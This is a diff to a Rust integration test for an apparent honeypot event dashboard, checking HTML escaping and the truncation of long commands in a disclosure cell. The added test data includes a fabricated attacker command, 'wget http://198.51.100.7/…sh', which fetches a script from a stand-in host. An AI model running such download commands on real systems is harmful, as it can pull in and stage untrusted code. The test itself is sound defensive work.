@@ -63,7 +63,8 @@ fn login_then_latest_events_escaped_under_csp() {
     let response = client
         .post(format!("{url}/api/v1/events"))
         .bearer_auth(&token)
-        .json(&json!([{"kind": "ssh.command", "summary": hostile, "severity": "high", "src_ip": "203.0.113.66"}]))
+        .json(&json!([{"kind": "ssh.command", "summary": hostile, "severity": "high", "src_ip": "203.0.113.66",
+            "data": {"input": format!("wget http://198.51.100.7/{}.sh", "x".repeat(120))}}]))
         .send()
         .unwrap();
     assert_eq!(response.status(), 200);
@@ -152,6 +153,10 @@ fn login_then_latest_events_escaped_under_csp() {
     assert_eq!(status, 200);
     assert!(dashboard.contains("203.0.113.66"), "top sources");
     assert!(dashboard.contains("<svg"), "the chart");
+    // A top command too long for its cell is cut, the whole behind a disclosure.
+    let whole = format!("wget http://198.51.100.7/{}.sh", "x".repeat(120));
+    assert!(dashboard.contains("<details class=\"cut\">"), "{dashboard}");
+    assert!(dashboard.contains(&whole), "the whole command");
     for path in [
         "/?range=1h",
         "/?range=7d",
